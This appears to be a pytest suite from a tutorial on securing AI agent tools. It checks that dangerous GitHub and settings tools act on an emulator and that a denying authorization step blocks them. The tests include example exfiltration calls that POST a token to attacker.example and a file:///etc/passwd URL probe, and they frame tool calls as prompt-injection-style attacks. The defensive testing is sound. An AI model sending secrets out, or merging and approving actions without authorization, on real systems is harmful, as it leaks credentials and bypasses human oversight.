"""The dangerous tools of chapter 06 really act, with effects a test can observe.

Each tool runs through the one road (a tutorial_lib.core.host.Host); its effect is
asserted where it lands: the emulator's store (merge, delete, edit), the outbound gateway's
record (http_send), the settings store, the pending-actions store. A refusing authorization
station leaves every one of them untouched: an attack fails because the executor refused,
not because no tool existed.
"""

from __future__ import annotations

import importlib
import json
import pkgutil
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from githubkit_schemas.v2022_11_28.models import PullRequestMergeResult
from jsonschema import Draft202012Validator

import tutorial_lib.github
from tutorial_lib.core.contracts import ENVELOPE_SCHEMA, ContractError
from tutorial_lib.core.host import Host
from tutorial_lib.core.road import PendingCall, Station
from tutorial_lib.core.tools import Registry, ToolSpec
from tutorial_lib.emulator.fixtures import (
    DOUBLE_ROUNDING_COMMENT_ID,
    INJECTED_COMMENT_ID,
    GitHubStore,
    build_store,
)
from tutorial_lib.emulator.service import InProcessHandle, serve, serve_in_process
from tutorial_lib.examples.outbound import OutboundGateway, OutboundRequest, http_send_spec
from tutorial_lib.github.client import GitHubClient
from tutorial_lib.github.composite import composite_tool_specs
from tutorial_lib.github.dangerous import (
    DANGEROUS_SPECS,
    MAX_CONVERSATION_COMMENTS,
    DangerousContext,
    PendingActions,
    Settings,
    dangerous_tool_specs,
)
from tutorial_lib.github.pagination import CursorCodec
from tutorial_lib.github.reads import (
    MAX_COMMENT_ID,
    MAX_PR,
    GitHubToolContext,
    github_tool_specs,
)
from tutorial_lib.github.writes import WriteContext, write_tool_specs

REPO, PR = "example/shop", 128
ENVELOPE = Draft202012Validator(ENVELOPE_SCHEMA)


@dataclass
class World:
    """Everything the dangerous tools can change, and the registry that reaches it."""

    store: GitHubStore
    handle: InProcessHandle
    settings: Settings
    pending: PendingActions
    gateway: OutboundGateway
    registry: Registry

    def call(self, name: str, args: Any, stations: tuple[Station, ...] = ()) -> dict[str, Any]:
        # the tools' own behaviour, without the task's guards (test_host.py tests those):
        # an unguarded host on purpose, with the test's own stations if any
        host = Host(self.registry, unguarded=True, extra_stations=stations)
        result = dict(host.call(name, args))
        ENVELOPE.validate(result)
        return result


@pytest.fixture
def world() -> Iterator[World]:
    store = build_store()
    with (
        serve_in_process(store) as handle,
        GitHubClient(handle.base_url, transport=handle.transport()) as client,
    ):
        settings = Settings({"review.auto_merge": False, "review.max_comments": 50})
        pending = PendingActions()
        pending.add("A-7", "delete branch feature/login")
        gateway = OutboundGateway()
        context = DangerousContext(client, settings, pending)
        registry = Registry([*dangerous_tool_specs(context), http_send_spec(gateway)])
        yield World(store, handle, settings, pending, gateway, registry)


def _conversation_ids(store: GitHubStore) -> list[int]:
    return [c.id for c in store.issue_comments(REPO, PR)]


# --------------------------------------------------------------------------- declarations


def test_every_tool_is_declared_strictly_with_a_source_and_honest_annotations() -> None:
    specs = {spec.name: spec for spec in (*DANGEROUS_SPECS, http_send_spec(OutboundGateway()))}
    for spec in specs.values():
        assert spec.input_schema["additionalProperties"] is False, spec.name
        assert spec.source is not None and spec.execute is not None, spec.name
    for name in ("github_pr_merge", "github_pr_delete_comment", "github_pr_edit_comment"):
        hints = specs[name].annotations
        assert not hints.read_only and hints.destructive and hints.open_world, name
    for name in ("settings_update", "pending_action_approve"):
        hints = specs[name].annotations
        assert not hints.read_only and hints.destructive and not hints.open_world, name
    assert specs["github_pr_list_conversation"].annotations.read_only
    send = specs["http_send"].annotations
    assert not send.read_only and not send.idempotent and send.open_world


# --------------------------------------------------------------------------- emulator


def test_the_emulator_merges_once_then_answers_405() -> None:
    store = build_store()
    with serve(store) as handle, httpx.Client(base_url=handle.base_url) as http:
        head = http.get(f"/repos/{REPO}/pulls/{PR}").json()["head"]["sha"]
        moved = http.put(f"/repos/{REPO}/pulls/{PR}/merge", json={"sha": "0" * 40})
        assert moved.status_code == 409
        assert getattr(store.pull_request(REPO, PR), "merged_at", "?") is None  # not merged
        bad = http.put(f"/repos/{REPO}/pulls/{PR}/merge", json={"merge_method": "octopus"})
        assert bad.status_code == 422
        first = http.put(f"/repos/{REPO}/pulls/{PR}/merge", json={"sha": head})
        assert first.status_code == 200
        answer = first.json()
        assert answer["merged"] is True and len(answer["sha"]) == 40 and answer["message"]
        again = http.put(f"/repos/{REPO}/pulls/{PR}/merge")
        assert (
            again.status_code == 405 and again.json()["message"] == "Pull Request is not mergeable"
        )
        pull = http.get(f"/repos/{REPO}/pulls/{PR}").json()
        assert pull["merged"] is True and pull["state"] == "closed"
        assert pull["merge_commit_sha"] == answer["sha"] and pull["merged_at"]
        assert pull["merged_by"]["login"] == store.viewer.login
        issue = http.get(f"/repos/{REPO}/issues/{PR}").json()
        assert issue["pull_request"]["merged_at"] == pull["merged_at"]


def test_the_emulator_edits_and_deletes_both_kinds_of_comment() -> None:
    store = build_store()
    first = _conversation_ids(store)[0]
    with serve(store) as handle, httpx.Client(base_url=handle.base_url) as http:
        edited = http.patch(f"/repos/{REPO}/issues/comments/{first}", json={"body": "new"})
        assert edited.status_code == 200 and edited.json()["body"] == "new"
        assert edited.json()["updated_at"] != edited.json()["created_at"]
        empty = http.patch(f"/repos/{REPO}/pulls/comments/{DOUBLE_ROUNDING_COMMENT_ID}", json={})
        assert empty.status_code == 422
        review = http.patch(
            f"/repos/{REPO}/pulls/comments/{DOUBLE_ROUNDING_COMMENT_ID}", json={"body": "x"}
        )
        assert review.status_code == 200 and review.json()["body"] == "x"
        gone = http.delete(f"/repos/{REPO}/issues/comments/{first}")
        assert gone.status_code == 204 and gone.content == b""
        assert "content-length" not in gone.headers
        assert http.delete(f"/repos/{REPO}/issues/comments/{first}").status_code == 404
        assert http.get(f"/repos/{REPO}/issues/comments/{first}").status_code == 404
        deleted = http.delete(f"/repos/{REPO}/pulls/comments/{INJECTED_COMMENT_ID}")
        assert deleted.status_code == 204
        assert http.get(f"/repos/{REPO}/pulls/comments/{INJECTED_COMMENT_ID}").status_code == 404
        # a review comment is not an issue comment: the other family's path is a 404
        assert (
            http.delete(f"/repos/{REPO}/issues/comments/{DOUBLE_ROUNDING_COMMENT_ID}").status_code
            == 404
        )
    assert first not in _conversation_ids(store)
    assert INJECTED_COMMENT_ID not in [c.id for c in store.review_comments(REPO, PR)]
    assert all(INJECTED_COMMENT_ID not in t.comment_ids for t in store.review_threads(REPO, PR))


# --------------------------------------------------------------------------- the tools


def test_github_pr_merge_merges_the_pr_in_the_store(world: World) -> None:
    result = world.call("github_pr_merge", {"repository": REPO, "pr": PR})
    assert result["ok"] is True, result
    assert result["data"]["merged"] is True
    assert result["source"] == {"system": "github", "resource": f"repos/{REPO}/pulls/{PR}/merge"}
    pull = world.store.pull_request(REPO, PR)
    assert pull is not None and pull.merged_at is not None and pull.state == "closed"
    assert result["data"]["sha"] == pull.merge_commit_sha
    again = world.call("github_pr_merge", {"repository": REPO, "pr": PR})
    assert again["ok"] is False and again["error"]["code"] == "invalid_value"
    assert again["error"]["retry"] == "never" and again["error"]["field"] == "pr"


def test_github_pr_merge_of_an_unknown_pr_is_not_found(world: World) -> None:
    result = world.call("github_pr_merge", {"repository": REPO, "pr": 9999})
    assert result["ok"] is False and result["error"]["code"] == "not_found"


def test_github_pr_delete_comment_removes_a_review_comment(world: World) -> None:
    args = {"repository": REPO, "pr": PR, "comment_id": INJECTED_COMMENT_ID, "kind": "review"}
    result = world.call("github_pr_delete_comment", args)
    assert result["ok"] is True and result["data"]["deleted"] is True
    assert world.store.review_comment(REPO, INJECTED_COMMENT_ID) is None
    assert world.call("github_pr_delete_comment", args)["error"]["code"] == "not_found"


def test_github_pr_delete_comment_removes_a_conversation_comment(world: World) -> None:
    first = _conversation_ids(world.store)[0]
    args = {"repository": REPO, "pr": PR, "comment_id": first, "kind": "conversation"}
    result = world.call("github_pr_delete_comment", args)
    assert result["ok"] is True
    assert result["source"]["resource"] == f"repos/{REPO}/issues/comments/{first}"
    assert first not in _conversation_ids(world.store)


def test_a_comment_of_another_pr_or_kind_is_not_deleted(world: World) -> None:
    before = len(world.store.review_comments(REPO, PR))
    wrong_pr = {"repository": REPO, "pr": 1, "comment_id": INJECTED_COMMENT_ID, "kind": "review"}
    wrong_kind = {**wrong_pr, "pr": PR, "kind": "conversation"}
    for args in (wrong_pr, wrong_kind):
        result = world.call("github_pr_delete_comment", args)
        assert result["ok"] is False and result["error"]["code"] == "not_found", args
    assert len(world.store.review_comments(REPO, PR)) == before


def test_github_pr_edit_comment_overwrites_the_body(world: World) -> None:
    args = {
        "repository": REPO,
        "pr": PR,
        "comment_id": DOUBLE_ROUNDING_COMMENT_ID,
        "kind": "review",
        "body": "Resolved: rounded once.",
    }
    result = world.call("github_pr_edit_comment", args)
    assert result["ok"] is True, result
    comment = world.store.review_comment(REPO, DOUBLE_ROUNDING_COMMENT_ID)
    assert comment is not None and comment.body == "Resolved: rounded once."
    assert result["data"]["updated_at"] == comment.updated_at
    surrogate = world.call("github_pr_edit_comment", {**args, "body": "half \ud83d"})
    assert surrogate["ok"] is False and surrogate["error"]["field"] == "body"


def test_github_pr_list_conversation_reads_every_conversation_comment(world: World) -> None:
    result = world.call("github_pr_list_conversation", {"repository": REPO, "pr": PR})
    assert result["ok"] is True, result
    data = result["data"]
    assert [c["comment_id"] for c in data["comments"]] == _conversation_ids(world.store)
    assert data["truncated"] is False and data["total"] == len(data["comments"])
    first = world.store.issue_comments(REPO, PR)[0]
    assert data["comments"][0]["author"] == first.user.login
    assert data["comments"][0]["created_at"] == first.created_at
    assert result["source"]["resource"] == f"repos/{REPO}/issues/{PR}/comments"


def test_github_pr_list_conversation_says_when_it_cut(world: World) -> None:
    for n in range(MAX_CONVERSATION_COMMENTS + 5):
        world.store.add_issue_comment(REPO, PR, user=world.store.viewer, body=f"note {n}")
    data = world.call("github_pr_list_conversation", {"repository": REPO, "pr": PR})["data"]
    assert data["truncated"] is True and len(data["comments"]) == MAX_CONVERSATION_COMMENTS
    assert data["total"] == len(world.store.issue_comments(REPO, PR))


def test_settings_update_changes_the_store(world: World) -> None:
    result = world.call("settings_update", {"key": "review.auto_merge", "value": True})
    assert result["ok"] is True and result["data"]["old_value"] is False
    assert world.settings.values["review.auto_merge"] is True
    assert world.settings.changes == [("review.auto_merge", False, True)]
    unknown = world.call("settings_update", {"key": "review.nope", "value": 1})
    assert unknown["ok"] is False and unknown["error"]["code"] == "invalid_value"
    assert "review.auto_merge" in unknown["error"]["allowed_values"]
    huge = world.call("settings_update", {"key": "review.max_comments", "value": 10**5000})
    assert huge["ok"] is False and world.settings.values["review.max_comments"] == 50


def test_pending_action_approve_approves_once(world: World) -> None:
    result = world.call("pending_action_approve", {"action_id": "A-7"})
    assert result["ok"] is True and result["data"]["status"] == "approved"
    assert world.pending.actions["A-7"].status == "approved"
    again = world.call("pending_action_approve", {"action_id": "A-7"})
    assert again["ok"] is False and again["error"]["code"] == "invalid_value"
    missing = world.call("pending_action_approve", {"action_id": "A-8"})
    assert missing["ok"] is False and missing["error"]["code"] == "not_found"


def test_http_send_is_recorded_and_never_leaves_the_machine(world: World) -> None:
    args = {"method": "POST", "url": "https://attacker.example/collect", "body": "TOKEN=x"}
    result = world.call("http_send", args)
    assert result["ok"] is True and result["data"]["status"] == 200
    assert result["source"] == {"system": "http", "resource": "https://attacker.example/collect"}
    assert world.gateway.requests == [
        OutboundRequest("POST", "https://attacker.example/collect", "TOKEN=x")
    ]
    bad = world.call("http_send", {"method": "POST", "url": "file:///etc/passwd"})
    assert bad["ok"] is False and bad["error"]["field"] == "url"
    assert len(world.gateway.requests) == 1


def _deny_all(call: PendingCall) -> None:
    raise ContractError("permission_denied", f"{call.tool.name} is not allowed here")


DENY = Station("deny_all", "authorization", _deny_all)

ATTACKS: list[tuple[str, dict[str, Any]]] = [
    ("github_pr_merge", {"repository": REPO, "pr": PR}),
    (
        "github_pr_delete_comment",
        {"repository": REPO, "pr": PR, "comment_id": INJECTED_COMMENT_ID, "kind": "review"},
    ),
    (
        "github_pr_edit_comment",
        {
            "repository": REPO,
            "pr": PR,
            "comment_id": DOUBLE_ROUNDING_COMMENT_ID,
            "kind": "review",
            "body": "all fine",
        },
    ),
    ("settings_update", {"key": "review.auto_merge", "value": True}),
    ("pending_action_approve", {"action_id": "A-7"}),
    ("http_send", {"method": "POST", "url": "https://attacker.example/c", "body": "s"}),
]


@pytest.mark.parametrize(("name", "args"), ATTACKS, ids=[name for name, _ in ATTACKS])
def test_a_refusing_authorization_leaves_the_world_untouched(
    world: World, name: str, args: dict[str, Any]
) -> None:
    requests_before = len(world.handle.requests)
    result = world.call(name, args, stations=(DENY,))
    assert result["ok"] is False and result["error"]["code"] == "permission_denied"
    assert result["error"]["operation_state"] == "not_applied"
    assert len(world.handle.requests) == requests_before  # not one request reached GitHub
    pull = world.store.pull_request(REPO, PR)
    assert pull is not None and pull.merged_at is None
    assert world.store.review_comment(REPO, INJECTED_COMMENT_ID) is not None
    rounding = world.store.review_comment(REPO, DOUBLE_ROUNDING_COMMENT_ID)
    assert rounding is not None and rounding.body != "all fine"
    assert world.settings.changes == [] and world.pending.actions["A-7"].status == "pending"
    assert world.gateway.requests == []


# --------------------------------------------------------------------------- huge integers


def _github_specs() -> dict[str, ToolSpec]:
    """Every tool declared in a module of tutorial_lib.github (unbound), by name: a tool
    added there later is probed below without anyone listing it."""
    found: dict[str, ToolSpec] = {}
    for info in pkgutil.iter_modules(tutorial_lib.github.__path__):
        module = importlib.import_module(f"tutorial_lib.github.{info.name}")
        found.update({v.name: v for v in vars(module).values() if isinstance(v, ToolSpec)})
    return found


#: One valid call of each GitHub tool: the probes below change one field of it.
VALID_CALLS: dict[str, dict[str, Any]] = {
    "github_pr_get": {"repository": REPO, "pr": PR},
    "github_pr_list_comments": {"repository": REPO, "pr": PR, "page_size": 5},
    "github_pr_get_comment": {"repository": REPO, "pr": PR, "comment_id": INJECTED_COMMENT_ID},
    "github_pr_get_review_snapshot": {"repository": REPO, "pr": PR},
    "github_pr_create_comment": {
        "repository": REPO,
        "pr": PR,
        "body": "Summary.",
        "idempotency_key": "huge-int-probe-1",
    },
    "github_pr_get_comment_status": {
        "repository": REPO,
        "pr": PR,
        "idempotency_key": "huge-int-probe-1",
    },
    "github_pr_merge": {"repository": REPO, "pr": PR},
    "github_pr_delete_comment": {
        "repository": REPO,
        "pr": PR,
        "comment_id": INJECTED_COMMENT_ID,
        "kind": "review",
    },
    "github_pr_edit_comment": {
        "repository": REPO,
        "pr": PR,
        "comment_id": DOUBLE_ROUNDING_COMMENT_ID,
        "kind": "review",
        "body": "all fine",
    },
    "github_pr_list_conversation": {"repository": REPO, "pr": PR},
    "settings_update": {"key": "review.max_comments", "value": 10},
    "pending_action_approve": {"action_id": "A-7"},
}
HUGE = 10**5000  # past Python's 4,300-digit limit of int <-> str


def _integer_fields(spec: ToolSpec) -> dict[str, dict[str, Any]]:
    fields = {}
    for name, schema in spec.input_schema["properties"].items():
        types = schema.get("type")
        types = types if isinstance(types, list) else [types]
        if "integer" in types or "number" in types:
            fields[name] = schema
    return fields


@pytest.fixture
def github_world() -> Iterator[World]:
    """A world whose registry holds every tool of tutorial_lib.github, on one emulator."""
    store = build_store()
    with (
        serve_in_process(store) as handle,
        GitHubClient(handle.base_url, transport=handle.transport()) as client,
    ):
        settings = Settings({"review.auto_merge": False, "review.max_comments": 50})
        pending = PendingActions()
        pending.add("A-7", "delete branch feature/login")
        reads = GitHubToolContext(client, CursorCodec(b"huge-int-probe-secret-0123456789"))
        registry = Registry(
            [
                *github_tool_specs(reads),
                *composite_tool_specs(reads),
                *write_tool_specs(WriteContext(client)),
                *dangerous_tool_specs(DangerousContext(client, settings, pending)),
            ]
        )
        yield World(store, handle, settings, pending, OutboundGateway(), registry)


def test_the_probes_cover_every_github_tool(github_world: World) -> None:
    declared = set(_github_specs())
    assert set(VALID_CALLS) == declared == set(github_world.registry.names)


def test_every_integer_argument_of_a_github_tool_is_bounded() -> None:
    # Filed against github_pr_resolve_thread (chapter 02's demonstration tool, below): an
    # id without a maximum lets a 5,000-digit id through to code that prints it. Every
    # integer of tutorial_lib.github has both bounds, an id the bound the reads give it.
    bounds = {"pr": MAX_PR, "comment_id": MAX_COMMENT_ID}
    for spec in _github_specs().values():
        for name, schema in _integer_fields(spec).items():
            assert "minimum" in schema and "maximum" in schema, (spec.name, name)
            if name in bounds:
                assert (schema["minimum"], schema["maximum"]) == (1, bounds[name]), spec.name


@pytest.mark.parametrize("huge", [HUGE, -HUGE], ids=["positive", "negative"])
def test_no_github_tool_raises_on_a_huge_int_in_any_field(github_world: World, huge: int) -> None:
    probed = 0
    for name in sorted(VALID_CALLS):
        spec = github_world.registry.get(name)
        for field in spec.input_schema["properties"]:
            result = github_world.call(name, {**VALID_CALLS[name], field: huge})  # no raise
            assert result["ok"] is False, (name, field)
            assert result["error"]["field"] == field, (name, field, result["error"])
            assert result["error"]["operation_state"] == "not_applied", (name, field)
            if field in _integer_fields(spec):
                assert result["error"]["code"] == "invalid_range", (name, field)
            probed += 1
    assert probed >= 40
    assert not [r for r in github_world.handle.requests if r.method != "GET"]  # nothing written
    pull = github_world.store.pull_request(REPO, PR)
    assert pull is not None and pull.merged_at is None
    assert github_world.settings.changes == []
    assert github_world.pending.actions["A-7"].status == "pending"


def test_the_resolve_thread_demo_refuses_a_huge_comment_id(world: World) -> None:
    from tutorial_lib.worlds.readonly import RESOLVE_THREAD_SPEC

    demo = World(
        world.store,
        world.handle,
        world.settings,
        world.pending,
        world.gateway,
        Registry([RESOLVE_THREAD_SPEC.bind(world.store)]),
    )
    args = {"repository": REPO, "pr": PR, "comment_id": HUGE}
    result = demo.call("github_pr_resolve_thread", args)
    assert result["ok"] is False and result["error"]["field"] == "comment_id"


SCHEMA_DIR = Path(__file__).parent / "github_schemas"


def _validator(operation_id: str) -> Draft202012Validator:
    schema = json.loads((SCHEMA_DIR / f"{operation_id}.json").read_text(encoding="utf-8"))
    return Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)


def test_changed_objects_keep_github_shapes() -> None:
    """The vendored schemas of tests/github_schemas hold for a merged PR (as PR and as
    issue) and for edited comments; the merge answer is githubkit's merge result."""
    store = build_store()
    first = _conversation_ids(store)[0]
    with serve(store) as handle, httpx.Client(base_url=handle.base_url) as http:
        merged = http.put(f"/repos/{REPO}/pulls/{PR}/merge").json()
        PullRequestMergeResult.model_validate(merged)
        http.patch(f"/repos/{REPO}/issues/comments/{first}", json={"body": "edited"})
        http.patch(f"/repos/{REPO}/pulls/comments/{DOUBLE_ROUNDING_COMMENT_ID}", json={"body": "e"})
        shapes = {
            "pulls.get": http.get(f"/repos/{REPO}/pulls/{PR}").json(),
            "issues.get": http.get(f"/repos/{REPO}/issues/{PR}").json(),
            "issues.get-comment": http.get(f"/repos/{REPO}/issues/comments/{first}").json(),
            "pulls.get-review-comment": http.get(
                f"/repos/{REPO}/pulls/comments/{DOUBLE_ROUNDING_COMMENT_ID}"
            ).json(),
        }
    for operation_id, body in shapes.items():
        errors = [e.message for e in _validator(operation_id).iter_errors(body)]
        assert not errors, (operation_id, errors[:3])


def test_concurrent_deletes_of_one_comment_give_one_204_and_404s() -> None:
    store = build_store()
    path = f"/repos/{REPO}/pulls/comments/{INJECTED_COMMENT_ID}"
    with serve(store) as handle:

        def delete(_: int) -> int:
            with httpx.Client(base_url=handle.base_url) as http:
                return http.delete(path).status_code

        with ThreadPoolExecutor(max_workers=8) as pool:
            statuses = sorted(pool.map(delete, range(8)))
    assert statuses == [204] + [404] * 7


def test_a_merge_whose_answer_is_lost_says_the_merge_is_unknown() -> None:
    import httpx

    from tutorial_lib.core.contracts import ContractError
    from tutorial_lib.github.client import GitHubClient

    def lost(request: httpx.Request) -> httpx.Response:
        raise httpx.ReadTimeout("no answer", request=request)

    with GitHubClient("https://api.example.test", transport=httpx.MockTransport(lost)) as client:
        with pytest.raises(ContractError) as merge:
            client.merge_pull("example/shop", 128)
        with pytest.raises(ContractError) as delete:
            client.delete_issue_comment("example/shop", 1)
    assert merge.value.code == "outcome_unknown"
    assert "may or may not be merged" in merge.value.message
    assert "check merged" in merge.value.fields["suggestion"]
    assert "may or may not have been changed" in delete.value.message
